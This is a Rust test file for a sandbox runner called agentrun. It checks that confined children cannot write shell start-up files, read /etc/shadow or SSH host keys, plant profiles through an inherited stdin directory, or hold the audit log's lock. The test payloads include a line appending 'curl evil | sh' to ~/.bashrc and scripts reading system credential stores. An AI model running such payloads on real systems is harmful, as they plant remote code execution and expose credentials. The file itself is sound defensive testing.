/// Review F9: with no `[sandbox]` write list, the default policy's write roots (the working
/// directory, `/tmp`, `$TMPDIR`) must not cover a home, or the child appends to
/// `~/.bashrc` and the operator's next shell runs it. Each layout is refused (125, naming
/// the root and the fix) and `.bashrc` is unchanged: the working directory an ancestor of
/// `$HOME`, `$HOME` under `/tmp`, `TMPDIR=$HOME`, `TMPDIR=/`, and (as root) `TMPDIR` the
/// password database's home (`/root`) with `$HOME` elsewhere.
fn default_write_roots_never_cover_a_home(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    s.file("work/p.toml", "version = 1\n");
    // A home under the working directory `proj`.
    let proj = s.path().join("proj");
    s.file("proj/p.toml", "version = 1\n");
    let inner_home = proj.join("h");
    s.file("proj/h/.bashrc", "# rc\n");
    // A home under /tmp.
    let tmp_home = s.path().join("tmphome");
    s.file("tmphome/.bashrc", "# rc\n");
    // The scratch's home, outside /tmp and the working directory.
    let home = s.home_dir.path().to_path_buf();
    s.file("home/.bashrc", "# rc\n");
    s.hand_to(who);
    let attack = "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo rc=$?";
    let home_s = home.display().to_string();
    let mut cases: Vec<(&str, &Path, String, Option<&str>, String)> = vec![
        (
            "cwd above $HOME",
            &proj,
            inner_home.display().to_string(),
            None,
            proj.display().to_string(),
        ),
        (
            "$HOME under /tmp",
            &work,
            tmp_home.display().to_string(),
            None,
            "/tmp".into(),
        ),
        (
            "TMPDIR=$HOME",
            &work,
            home_s.clone(),
            Some(&home_s),
            home_s.clone(),
        ),
        ("TMPDIR=/", &work, home_s.clone(), Some("/"), "/".into()),
    ];
    if who == As::Root {
        cases.push((
            "TMPDIR=/root",
            &work,
            home_s.clone(),
            Some("/root"),
            "/root".into(),
        ));
    }
    for (what, cwd, h, tmpdir, root) in cases {
        let mut run = s
            .agentrun()
            .user(who)
            .cwd(cwd)
            .args(["-p", "p.toml", "--", "sh", "-c", attack])
            .env("HOME", &h);
        if let Some(t) = tmpdir {
            run = run.env("TMPDIR", t);
        }
        let o = run.run();
        assert_eq!(o.code, 125, "{tag}: {what}: {o:?}");
        assert!(
            !o.stdout.contains("rc="),
            "{tag}: {what}: the child ran: {o:?}"
        );
        assert!(
            o.stderr.contains("no [sandbox] write list")
                && o.stderr.contains(&format!("write root {root} "))
                && o.stderr.contains("add a [sandbox] table"),
            "{tag}: {what}: names the root and the fix: {o:?}"
        );
        let rc = std::fs::read_to_string(Path::new(&h).join(".bashrc")).unwrap();
        assert_eq!(rc, "# rc\n", "{tag}: {what}: .bashrc changed");
    }
    // A layout where no write root covers the home runs, and the rc file stays out of reach.
    let o = s
        .agentrun()
        .user(who)
        .cwd(&work)
        .args(["-p", "p.toml", "--", "sh", "-c", attack])
        .run();
    assert_eq!(o.code, 0, "{tag}: {o:?}");
    assert!(
        o.stdout.contains("rc=") && !o.stdout.contains("rc=0"),
        "{tag}: {o:?}"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
}

#[test]
fn default_write_roots_never_cover_a_home_root() {
    default_write_roots_never_cover_a_home(As::Root, "default_write_roots_never_cover_a_home_root");
}

#[test]
fn default_write_roots_never_cover_a_home_nobody() {
    default_write_roots_never_cover_a_home(
        As::Nobody,
        "default_write_roots_never_cover_a_home_nobody",
    );
}

const STARTUP_ATTACK: &str = concat!(
    include_str!("../fixtures/attempt.py"),
    include_str!("../fixtures/startup_attack.py")
);

/// Review F9, explicit write roots: a profile that makes a home writable (`write = ["~"]`,
/// or an ancestor of it) still cannot change the operator's start-up files there; the rest
/// of the home stays writable.
fn startup_files_stay_out_of_explicit_write_roots(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    let home = s.home_dir.path().to_path_buf();
    s.file("home/.bashrc", "# rc\n");
    s.file("home/.gitconfig", "[user]\n");
    // The home's other files and subdirectories stay writable (the home itself gets no new
    // top-level entries: it is granted entry by entry around the protected ones).
    s.file("home/todo.txt", "one\n");
    std::fs::create_dir_all(home.join("notes")).unwrap();
    std::fs::create_dir_all(home.join(".config")).unwrap();
    std::fs::create_dir_all(home.join(".local")).unwrap();
    let parent = home.parent().unwrap().display().to_string();
    for (name, write) in [("h.toml", "~".to_string()), ("a.toml", parent)] {
        s.file(
            &format!("work/{name}"),
            &format!("version = 1\n[sandbox]\nwrite = [\"{write}\", \"/tmp\"]\n"),
        );
    }
    s.hand_to(who);
    for p in ["h.toml", "a.toml"] {
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p, "--", PYTHON, "-c", STARTUP_ATTACK])
            .run();
        assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
        let r = results(&o.stdout);
        for k in [
            "bashrc",
            "profile",
            "zshenv",
            "gitconfig",
            "git_config",
            "fish",
            "local_bin",
        ] {
            assert_eq!(
                r.get(k).map(String::as_str),
                Some("EACCES"),
                "{tag}: {p}: {k}: {o:?}"
            );
        }
        for k in ["own_file", "own_append"] {
            assert_eq!(
                r.get(k).map(String::as_str),
                Some("ok"),
                "{tag}: {p}: {k}: {o:?}"
            );
        }
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".gitconfig")).unwrap(),
        "[user]\n"
    );
    for p in [
        ".profile",
        ".zshenv",
        ".config/git",
        ".config/fish",
        ".local/bin",
    ] {
        assert!(!home.join(p).exists(), "{tag}: {p} planted");
    }
}

#[test]
fn startup_files_stay_out_of_explicit_write_roots_root() {
    startup_files_stay_out_of_explicit_write_roots(
        As::Root,
        "startup_files_stay_out_of_explicit_write_roots_root",
    );
}

#[test]
fn startup_files_stay_out_of_explicit_write_roots_nobody() {
    startup_files_stay_out_of_explicit_write_roots(
        As::Nobody,
        "startup_files_stay_out_of_explicit_write_roots_nobody",
    );
}

/// Review F10: uid 0 owns `/etc/shadow` and the other system credential stores, so a root
/// child read them under any policy covering `/etc` (the default's `read`, or `read =
/// ["/"]`). They are denied whatever the policy; `/etc/passwd` stays readable.
fn system_credential_stores_stay_closed(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let _db = passwd_db();
    let s = scratch();
    let work = s.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    s.file("work/d.toml", "version = 1\n");
    s.file("work/r.toml", "version = 1\n[sandbox]\nread = [\"/\"]\n");
    s.hand_to(who);
    let mut stores: Vec<String> = [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/shadow-",
        "/etc/gshadow-",
        "/etc/sudoers",
        "/etc/security/opasswd",
    ]
    .iter()
    .filter(|p| Path::new(p).is_file())
    .map(|p| p.to_string())
    .collect();
    for e in std::fs::read_dir("/etc/ssh")
        .into_iter()
        .flatten()
        .flatten()
    {
        let n = e.file_name().to_string_lossy().to_string();
        if n.starts_with("ssh_host_") && n.ends_with("_key") {
            stores.push(e.path().display().to_string());
        }
    }
    assert!(
        stores.iter().any(|p| p == "/etc/shadow"),
        "{tag}: this machine has no /etc/shadow"
    );
    // How many bytes (entries) of each the child gets: none. As root they are hidden in the
    // child's mount namespace (an empty file or directory); as nobody the file modes refuse.
    // The keys are numbers: a line like `opasswd=0` would itself look like a secret.
    let mut script = String::new();
    for (i, p) in stores.iter().enumerate() {
        script.push_str(&format!(
            "echo s{i}=$(head -c 64 {p} 2>/dev/null | wc -c); "
        ));
    }
    for d in ["/etc/ssl/private", "/etc/sudoers.d"] {
        if Path::new(d).is_dir() && std::fs::read_dir(d).is_ok_and(|mut r| r.next().is_some()) {
            let i = stores.len();
            script.push_str(&format!("echo s{i}=$(ls -A {d} 2>/dev/null | wc -l); "));
            stores.push(d.to_string());
        }
    }
    script.push_str("head -1 /etc/passwd");
    for p in ["d.toml", "r.toml"] {
        let o = s
            .agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", p, "--", "sh", "-c", &script])
            .run();
        assert_eq!(o.code, 0, "{tag}: {p}: {o:?}");
        let r = results(&o.stdout);
        for (i, store) in stores.iter().enumerate() {
            let got = r.get(&format!("s{i}")).map(String::as_str);
            assert_eq!(got, Some("0"), "{tag}: {p}: {store} readable: {o:?}");
        }
        assert!(o.stdout.contains("root:x:0:0:"), "{tag}: {p}: {o:?}");
    }
}

#[test]
fn system_credential_stores_stay_closed_root() {
    system_credential_stores_stay_closed(As::Root, "system_credential_stores_stay_closed_root");
}

#[test]
fn system_credential_stores_stay_closed_nobody() {
    system_credential_stores_stay_closed(As::Nobody, "system_credential_stores_stay_closed_nobody");
}

/// Review L1: a directory on stdin (`agentrun ... < profiles`) was inherited as fd 0, opened
/// before the sandbox made `profiles` read-only: `openat(0, "evil.toml", O_CREAT)` planted a
/// profile through it. The child gets `/dev/null` instead.
fn a_directory_on_stdin_is_no_way_out(who: As, tag: &str) {
    if !can_run_as(tag, who) || !kernel_ready(tag) {
        return;
    }
    let s = scratch();
    let work = s.path().join("work");
    s.file("work/profiles/p.toml", "version = 1\n");
    s.hand_to(who);
    let script = r#"
import os, stat
st = os.fstat(3)
print("dir=" + str(stat.S_ISDIR(st.st_mode)), flush=True)
try:
    fd = os.open("evil.toml", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=3)
    os.write(fd, b"version = 1\n")
    print("plant=ok", flush=True)
except OSError as e:
    print("plant=" + str(e.errno), flush=True)
"#;
    // Python refuses a directory as its stdin: the shell hands fd 0 on as fd 3.
    let sh = format!("{PYTHON} -c '{script}' 3<&0 0</dev/null");
    let dir = work.join("profiles");
    let o = Out::from(
        s.agentrun()
            .user(who)
            .cwd(&work)
            .args(["-p", "p", "--", "sh", "-c", &sh])
            .command()
            .stdin(std::fs::File::open(&dir).unwrap())
            .output()
            .unwrap(),
    );
    assert_eq!(o.code, 0, "{tag}: {}: {o:?}", dir.display());
    let r = results(&o.stdout);
    assert_eq!(
        r.get("dir").map(String::as_str),
        Some("False"),
        "{tag}: {o:?}"
    );
    assert_ne!(
        r.get("plant").map(String::as_str),
        Some("ok"),
        "{tag}: {o:?}"
    );
    assert!(
        !dir.join("evil.toml").exists(),
        "{tag}: planted in {}",
        dir.display()
    );
}

#[test]
fn a_directory_on_stdin_is_no_way_out_root() {
    a_directory_on_stdin_is_no_way_out(As::Root, "a_directory_on_stdin_is_no_way_out_root");
}

#[test]
fn a_directory_on_stdin_is_no_way_out_nobody() {
    a_directory_on_stdin_is_no_way_out(As::Nobody, "a_directory_on_stdin_is_no_way_out_nobody");
}

/// The audit log in a directory the child may read or write: the child cannot open it at all
/// (it sees an empty device there), so it cannot hold the log's lock and keep agentrun's
/// lines in memory (review 11c, F3). Checked from outside: while the child "holds" the lock,
/// the real log can be locked.
fn audit_log_lock_cannot_be_held(who: As) {
    let test = "audit_log_lock_cannot_be_held";
    if !kernel_ready(test) || !can_run_as(test, who) {
        return;
    }
    let s = scratch();
    s.profile("t", "version = 1\n[sandbox]\nwrite = [\".\"]\n");
    s.file(
        "hold.py",
        r#"import fcntl, os, sys, time
try:
    f = open("audit.jsonl", "rb")
    fcntl.flock(f, fcntl.LOCK_EX)
    print("held", len(f.read()), flush=True)
except OSError as e:
    print("cannot", e.errno, flush=True)
open("holding", "w").close()
time.sleep(3)
"#,
    );
    s.hand_to(who);
    let child = s
        .agentrun()
        .user(who)
        .args(["-p", "t", "--", PYTHON, "hold.py"])
        .spawn();
    let log = s.path().join("audit.jsonl");
    assert!(
        eventually(Duration::from_secs(10), || s
            .path()
            .join("holding")
            .exists()),
        "{who:?}: the child never ran"
    );
    let f = std::fs::File::open(&log).unwrap();
    let free = nix::fcntl::Flock::lock(f, nix::fcntl::FlockArg::LockExclusiveNonblock).is_ok();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        free,
        "{who:?}: the child holds the audit log's lock: {stdout}"
    );
    assert!(
        stdout.contains("held 0") || stdout.contains("cannot"),
        "{who:?}: the child read the log: {stdout}"
    );
    assert!(chained(&std::fs::read_to_string(&log).unwrap()));
}

#[test]
fn audit_log_lock_cannot_be_held_as_root() {
    audit_log_lock_cannot_be_held(As::Root);
}

#[test]
fn audit_log_lock_cannot_be_held_as_nobody() {
    audit_log_lock_cannot_be_held(As::Nobody);
}
